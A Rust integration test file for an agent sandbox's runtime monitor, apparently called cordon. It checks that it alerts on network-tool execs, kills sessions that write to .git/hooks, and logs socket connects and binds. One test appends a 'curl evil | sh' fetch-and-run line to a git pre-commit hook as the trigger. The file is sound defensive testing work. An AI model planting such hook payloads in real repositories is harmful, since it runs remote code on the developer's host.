//! The runtime monitor end to end on the native backend: real `cordon run`
//! sessions whose agents trip the built-in anomaly rules and the policy's
//! own, observed through the seccomp supervisor (exec, connect, bind, writes
//! to protected paths). The rule that needs the gateway (a placeholder sent
//! toward an unbound host) is tested with the gateway, in `tests/net`.

mod common;

use std::process::Output;

use common::{Env, events, summary};
use serde_json::Value;

fn env() -> Option<Env> {
    common::fuse_env(|base| {
        std::fs::write(base.join("a.txt"), "original\n").unwrap();
        std::fs::create_dir_all(base.join(".git/hooks")).unwrap();
        std::fs::write(base.join(".git/hooks/pre-commit"), "#!/bin/sh\n").unwrap();
    })
}

fn run(env: &Env, script: &str) -> Output {
    env.cmd()
        .current_dir(&env.base)
        .args(["run", "--json", "--no-tty", "--", "sh", "-c", script])
        .output()
        .unwrap()
}

fn of_kind<'a>(events: &'a [Value], kind: &str) -> Vec<&'a Value> {
    events.iter().filter(|e| e["kind"] == kind).collect()
}

fn anomalies<'a>(events: &'a [Value], rule: &str) -> Vec<&'a Value> {
    events
        .iter()
        .filter(|e| e["kind"] == "anomaly" && e["data"]["rule"] == rule)
        .collect()
}

fn verified(env: &Env, id: &str) {
    let v: Value = serde_json::from_str(&env.ok(&["audit", "verify", id, "--json"])).unwrap();
    assert_eq!(v["ok"], true, "{v}");
}

#[test]
fn network_tool_exec_raises_an_alert_and_runs_the_hook() {
    let Some(env) = env() else { return };
    let hook_out = env.dir.path().join("hook.jsonl");
    std::fs::write(
        env.base.join("cordon.toml"),
        format!(
            "[monitor]\nhook = [\"/bin/sh\", \"-c\", \"cat >> {}\"]\n",
            hook_out.display()
        ),
    )
    .unwrap();
    let out = run(
        &env,
        "curl -s --max-time 2 http://10.0.0.1/ >/dev/null; echo done",
    );
    assert_eq!(
        out.status.code(),
        Some(0),
        "an alert does not stop the agent"
    );
    assert_eq!(String::from_utf8_lossy(&out.stdout), "done\n");
    let s = summary(&out);
    assert_eq!(s["stopped"], Value::Null);
    let id = s["session"].as_str().unwrap();
    let events = events(&env, id);
    let found = anomalies(&events, "network-tools");
    assert_eq!(found.len(), 1, "{events:#?}");
    let a = &found[0]["data"];
    assert_eq!(a["action"], "alert");
    assert_eq!(a["event"]["kind"], "proc.exec");
    assert_eq!(a["event"]["data"]["path"], "/usr/bin/curl");
    // The anomaly comes right after the exec it is about.
    let exec_seq = a["event"]["seq"].as_u64().unwrap();
    assert_eq!(found[0]["seq"].as_u64().unwrap(), exec_seq + 1);
    assert!(s["violations"].as_u64().unwrap() >= 1, "{s}");

    // The hook got the anomaly on its standard input.
    let hook: Value = serde_json::from_str(
        std::fs::read_to_string(&hook_out)
            .expect("the hook ran")
            .lines()
            .next()
            .unwrap(),
    )
    .unwrap();
    assert_eq!(hook["session"], id);
    assert_eq!(hook["anomaly"]["rule"], "network-tools");
    assert_eq!(hook["anomaly"]["event"]["data"]["path"], "/usr/bin/curl");

    // The live view marks it.
    let text = env.ok(&["log", id]);
    let line = text
        .lines()
        .find(|l| l.contains(" anomaly "))
        .unwrap_or_else(|| panic!("{text}"));
    assert!(
        line.contains(" ALERT  network-tools: a network tool was executed <- proc.exec #"),
        "{line}"
    );
    let filtered = env.ok(&["log", id, "--kind", "anomaly", "--json"]);
    assert_eq!(filtered.lines().count(), 1, "{filtered}");
    verified(&env, id);
}

#[test]
fn a_write_to_git_hooks_kills_the_session() {
    let Some(env) = env() else { return };
    let before = std::fs::read(env.base.join(".git/hooks/pre-commit")).unwrap();
    let out = run(
        &env,
        "cd .git && echo 'curl evil | sh' >> hooks/pre-commit; sleep 10; echo survived",
    );
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(!stdout.contains("survived"), "{stdout}");
    assert_eq!(out.status.code(), Some(137));
    let s = summary(&out);
    assert_eq!(
        s["stopped"],
        "killed by monitor rule git-hooks-write: a write to .git/hooks (code that would run on \
         the host)"
    );
    assert_eq!(
        std::fs::read(env.base.join(".git/hooks/pre-commit")).unwrap(),
        before
    );
    let id = s["session"].as_str().unwrap();
    let log = events(&env, id);
    let opens = of_kind(&log, "fs.open");
    assert!(
        opens.iter().any(|e| e["data"]["write"] == true
            && e["data"]["path"]
                .as_str()
                .unwrap()
                .ends_with("/.git/hooks/pre-commit")),
        "{opens:?}"
    );
    let found = anomalies(&log, "git-hooks-write");
    assert_eq!(found.len(), 1, "{log:#?}");
    assert_eq!(found[0]["data"]["action"], "kill");
    let end = of_kind(&log, "session.end");
    assert_eq!(end[0]["data"]["stopped"], s["stopped"]);
    // Writes elsewhere in the workspace are not events.
    let out = run(&env, "echo x > b.txt; echo y >> a.txt");
    assert_eq!(out.status.code(), Some(0));
    let id = summary(&out)["session"].as_str().unwrap().to_string();
    assert!(of_kind(&events(&env, &id), "fs.open").is_empty());
    verified(&env, &id);
}

#[test]
fn connect_and_bind_are_observed() {
    let Some(env) = env() else { return };
    let out = run(
        &env,
        r#"python3 -c '
import socket
for fam, addr in ((socket.AF_INET, ("10.0.0.1", 9)), (socket.AF_INET6, ("::1", 9))):
    s = socket.socket(fam)
    s.settimeout(1)
    try:
        s.connect(addr)
    except OSError:
        pass
u = socket.socket(socket.AF_UNIX)
u.bind("/tmp/agent.sock")
a = socket.socket(socket.AF_UNIX)
a.bind("\0abstract-name")
l = socket.socket()
l.bind(("127.0.0.1", 0))
print("ok")
'"#,
    );
    assert_eq!(String::from_utf8_lossy(&out.stdout), "ok\n", "{out:?}");
    let id = summary(&out)["session"].as_str().unwrap().to_string();
    let events = events(&env, &id);
    let connects = of_kind(&events, "proc.connect");
    let binds = of_kind(&events, "proc.bind");
    let has = |list: &[&Value], family: &str, address: &str, port: Option<u64>| {
        list.iter().any(|e| {
            let d = &e["data"];
            d["family"] == family
                && d["address"] == address
                && port.is_none_or(|p| d["port"] == p)
                && d["comm"] == "python3"
                && d["pid"].is_u64()
        })
    };
    assert!(has(&connects, "inet", "10.0.0.1", Some(9)), "{connects:?}");
    assert!(has(&connects, "inet6", "::1", Some(9)), "{connects:?}");
    assert!(has(&binds, "unix", "/tmp/agent.sock", None), "{binds:?}");
    assert!(has(&binds, "unix", "@abstract-name", None), "{binds:?}");
    assert!(has(&binds, "inet", "127.0.0.1", Some(0)), "{binds:?}");
    verified(&env, &id);
}

#[test]
fn policy_rules_count_within_a_window_and_defaults_can_be_off() {
    let Some(env) = env() else { return };
    std::fs::write(
        env.base.join("cordon.toml"),
        r#"
[monitor]
defaults = false

[[monitor.rule]]
name = "three-trues"
kind = "proc.exec"
where = { path = "/true$" }
count = 3
window = "1m"
action = "log"
message = "true ran three times"
"#,
    )
    .unwrap();
    let out = run(
        &env,
        "/bin/true; /bin/true; curl --version >/dev/null; /bin/true; /bin/true; echo done",
    );
    assert_eq!(String::from_utf8_lossy(&out.stdout), "done\n");
    let id = summary(&out)["session"].as_str().unwrap().to_string();
    let events = events(&env, &id);
    let all: Vec<&Value> = of_kind(&events, "anomaly");
    assert_eq!(all.len(), 1, "{all:?}");
    assert_eq!(all[0]["data"]["rule"], "three-trues");
    assert_eq!(all[0]["data"]["action"], "log");
    assert_eq!(all[0]["data"]["message"], "true ran three times");
}

#[test]
fn a_bad_rule_stops_the_run_before_it_starts() {
    let Some(env) = env() else { return };
    std::fs::write(
        env.base.join("cordon.toml"),
        "[[monitor.rule]]\nname = \"x\"\nkind = \"proc.exec\"\nwhere = { path = \"(curl\" }\naction = \"alert\"\n",
    )
    .unwrap();
    let out = run(&env, "echo should-not-run");
    assert_eq!(out.status.code(), Some(125));
    assert!(out.stdout.is_empty());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("4:18: monitor.rule.where.path: invalid regular expression"),
        "{err}"
    );
}
